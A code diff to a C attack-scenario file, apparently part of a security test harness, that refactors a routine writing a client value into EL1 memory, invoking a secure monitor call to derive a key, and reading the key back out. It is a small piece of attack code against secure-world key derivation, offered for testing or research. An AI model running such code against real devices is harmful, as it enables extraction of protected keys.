@@ -6,17 +6,17 @@
 #include "../lib/scenario.h"
 #include "linux_abi.h"
 
-enum { NW = 0x80100000, DERIVE = 0x0B, KEY_WORDS = 8 };
+enum { DERIVE = 0x0B, KEY_WORDS = 8 };
 
 /* The key the kernel may hand to a component, first word of the client repeated. */
 static int derive(gs_attack *attack, guint32 client, guint32 key[KEY_WORDS])
 {
     for (guint i = 0; i < 5; i++) {
-        gs_attack_poke(attack, "a7ns", NW + 4 * i, i < 4 ? client : 0);
+        gs_attack_poke(attack, "a7ns", GS_EL1_SCRATCH + 4 * i, i < 4 ? client : 0);
     }
-    int result = gs_el1_smc(attack, DERIVE, NW, 20, NW + 0x100, 40);
+    int result = gs_el1_smc(attack, DERIVE, GS_EL1_SCRATCH, 20, GS_EL1_SCRATCH + 0x100, 40);
     for (guint i = 0; i < KEY_WORDS; i++) {
-        gs_attack_peek(attack, "a7ns", NW + 0x100 + 4 * i, &key[i]);
+        gs_attack_peek(attack, "a7ns", GS_EL1_SCRATCH + 0x100 + 4 * i, &key[i]);
     }
     return result;
 }
